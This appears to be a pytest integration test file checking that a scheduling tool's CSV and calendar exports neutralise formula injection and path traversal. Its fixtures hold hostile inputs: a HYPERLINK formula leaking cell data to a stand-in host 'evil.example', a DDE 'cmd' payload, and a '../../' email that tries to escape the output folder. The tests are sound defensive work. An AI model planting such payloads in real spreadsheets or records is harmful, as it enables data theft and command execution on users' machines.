"""Exports are safe to open and to write whatever the roster holds: a name that a spreadsheet would run as a
formula stays text in the CSV, and an email that is a path (stored before emails were checked) cannot make
`schedcu export ics` write outside its folder."""

import csv
import io
import os
import subprocess
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import update
from sqlalchemy.orm import Session

from schedcu.operations.exports import csv_bytes
from schedcu.runtime.processes import schedcu_command
from schedcu.testing.demo_data import ROSTER
from services.coverage.calculation import CalculationOptions, calculate_and_store
from shared.db.models import Person
from tests.conftest import Services, provisioned
from tests.schedcu.test_coverage_queries import template_version

pytestmark = pytest.mark.integration

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Adams, Ada")'
PATH_EMAIL = "../../escaped/pwned@x"


@dataclass(frozen=True)
class Hostile:
    services: Services
    version_id: uuid.UUID


@pytest.fixture(scope="module")
def hostile() -> Iterator[Hostile]:
    """A week whose roster has a person named FORMULA and one whose email is PATH_EMAIL, its coverage
    calculated (a database of its own: the names would show elsewhere)."""
    with provisioned(f"schedcu_test_exports_{uuid.uuid4().hex[:8]}") as services:
        with Session(services.engine) as session, session.begin():
            version_id = template_version(session, date(2026, 3, 2), date(2026, 3, 8))
            for person, values in ((ROSTER[0], {"name": FORMULA}), (ROSTER[1], {"email": PATH_EMAIL})):
                session.execute(update(Person).where(Person.email == person["email"]).values(**values))
        with Session(services.engine) as session, session.begin():
            calculate_and_store(session, version_id, uuid.uuid4(), CalculationOptions(tz=ZoneInfo("America/New_York")))
        yield Hostile(services, version_id)


def schedcu(services: Services, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "SCHEDCU_DATABASE_URL": services.database_url, "SCHEDCU_AMQP_URL": services.amqp_url}
    return subprocess.run(schedcu_command(*args), env=env, capture_output=True, text=True, timeout=60, check=False)


def test_a_roster_name_that_is_a_formula_stays_text_in_cells_csv(hostile: Hostile, tmp_path: Path) -> None:
    out = tmp_path / "cells.csv"
    done = schedcu(hostile.services, "export", "cells", str(hostile.version_id), "--out", str(out))
    assert done.returncode == 0, done.stderr

    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    with_formula = [r["people"] for r in rows if FORMULA in r["people"]]
    assert with_formula, "the person named FORMULA is on no cell"
    assert all(people.startswith("'") for people in with_formula)
    assert {people for people in with_formula if people.startswith("'=")}  # the person is first on some cells
    assert not [cell for r in rows for cell in r.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_a_spreadsheet_would_run_is_prefixed(start: str) -> None:
    text = f"{start}1+cmd|' /C calc'!A0"
    rows = list(csv.reader(io.StringIO(csv_bytes([["name", "n"], [text, 3], ["Adams, Ada", True]]).decode())))
    assert rows == [["name", "n"], [f"'{text}", "3"], ["Adams, Ada", "True"]]


def test_ics_export_writes_every_calendar_inside_its_folder(hostile: Hostile, tmp_path: Path) -> None:
    folder = tmp_path / "out" / "calendars"
    folder.parent.mkdir()
    (tmp_path / "escaped").mkdir()  # where PATH_EMAIL leads from the folder

    done = schedcu(hostile.services, "export", "ics", str(hostile.version_id), "--out", str(folder))

    assert done.returncode == 0, done.stderr
    assert list((tmp_path / "escaped").iterdir()) == []
    written = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file())
    assert written and all(name.startswith("out/calendars/") and name.count("/") == 2 for name in written)
    (pwned,) = [name for name in written if "pwned@x" in name]
    assert pwned.startswith("out/calendars/_.._escaped_pwned@x-") and pwned.endswith(".ics")
    assert f"out/calendars/{ROSTER[2]['email']}.ics" in written  # a plain email keeps its plain name


def test_ics_export_refuses_a_calendar_file_that_links_outside_its_folder(hostile: Hostile, tmp_path: Path) -> None:
    folder, outside = tmp_path / "calendars", tmp_path / "outside.ics"
    folder.mkdir()
    outside.write_text("kept", encoding="utf-8")
    (folder / f"{ROSTER[2]['email']}.ics").symlink_to(outside)

    done = schedcu(hostile.services, "export", "ics", str(hostile.version_id), "--out", str(folder))

    assert done.returncode == 2
    assert f"the calendar of {ROSTER[2]['email']!r} would be written outside {folder}" in done.stderr
    assert outside.read_text(encoding="utf-8") == "kept"
